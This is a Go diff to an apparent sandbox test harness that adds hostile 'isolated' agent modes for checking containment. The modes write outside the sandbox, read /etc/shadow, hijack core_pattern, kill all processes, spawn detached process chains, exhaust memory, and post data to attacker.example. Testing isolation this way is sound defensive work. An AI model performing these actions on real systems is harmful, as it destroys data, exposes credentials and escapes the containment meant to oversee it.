@@ -25,7 +25,7 @@ import (
 
 func modes() []mode {
 	return slices.Concat(floods(), ids(), values(), injections(), secrets(), processes(), files(), evidence(), requests(),
-		models())
+		models(), isolated())
 }
 
 // at makes a mode for each stage.
@@ -527,6 +527,9 @@ func requests() []mode {
 		"double-slash": "//etc/passwd", "fifo": "$CWD/fifo", "zero": "$CWD/zero", "sparse": "$CWD/sparse",
 	} {
 		for _, method := range []string{"fs/read_text_file", "fs/write_text_file"} {
+			if path == "$CWD/sparse" && method == "fs/write_text_file" {
+				continue // its own file
+			}
 			all = append(all, mode{
 				name: "fs-" + strings.TrimSuffix(strings.TrimPrefix(method, "fs/"), "_text_file") + "-" + name, at: inTurn,
 				do: func(a *agent) {
@@ -660,16 +663,67 @@ func models() []mode {
 		}),
 		m("foreign-host", post("attacker.example", "", "application/json")),
 		m("cross-site", post("", "http://attacker.example", "text/plain")),
-		m("egress-20000-hosts", func(*agent) {
+		m("egress-endless", func(*agent) {
 			proxy, _ := url.Parse(os.Getenv("HTTP_PROXY"))
 			c := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxy), MaxIdleConnsPerHost: 4}}
-			for n := range 20_000 {
-				r, err := c.Get(fmt.Sprintf("http://h%d.example/", n))
-				if err != nil {
-					break
+			for n := 0; ; n++ { // until the run ends it
+				if r, err := c.Get(fmt.Sprintf("http://h%d.example/", n)); err == nil {
+					_, _ = io.Copy(io.Discard, r.Body)
+					r.Body.Close()
 				}
-				_, _ = io.Copy(io.Discard, r.Body)
-				r.Body.Close()
+			}
+		}),
+	}
+}
+
+// isolated agents have what others do to the run out of their reach.
+func isolated() []mode {
+	m := func(name string, do func(a *agent)) mode {
+		return mode{name: "isolated-" + name, at: inTurn, flags: []string{"--isolate"}, do: do}
+	}
+	must := func(err error) {
+		if err == nil {
+			os.Exit(66)
+		}
+	}
+	return []mode{
+		m("evidence", func(*agent) {
+			_, err := os.Stat(out())
+			must(err)
+			_ = os.RemoveAll(out())
+		}),
+		m("files", func(*agent) {
+			victim := filepath.Join(os.Getenv("HOSTILE_OUTSIDE"), "victim")
+			_, err := os.ReadFile(victim)
+			must(err)
+			must(os.WriteFile(victim, []byte("owned"), 0o644))
+			must(os.WriteFile("/usr/owned", nil, 0o644))
+			must(os.WriteFile("/proc/sys/kernel/core_pattern", []byte("|/owned"), 0o644))
+			_, err = os.ReadFile("/etc/shadow")
+			must(err)
+			must(unix.Mount("tmpfs", "/tmp", "tmpfs", 0, ""))
+			must(unix.Unmount("/tmp", 0))
+		}),
+		m("processes", func(*agent) {
+			for _, s := range []syscall.Signal{syscall.SIGSTOP, syscall.SIGKILL} {
+				_ = syscall.Kill(-1, s)
+				_ = syscall.Kill(os.Getppid(), s)
+			}
+		}),
+		m("chains-20", func(*agent) {
+			for range 20 {
+				start(&syscall.SysProcAttr{Setsid: true}, []string{}, "chain", "1")
+			}
+		}),
+		m("memory", func(*agent) { // of the file systems that are in it
+			for _, dir := range []string{"/tmp", "/dev/shm"} {
+				f, err := os.Create(filepath.Join(dir, "x"))
+				if err == nil {
+					for err == nil {
+						_, err = f.Write(make([]byte, 1<<20))
+					}
+					f.Close()
+				}
 			}
 		}),
 	}
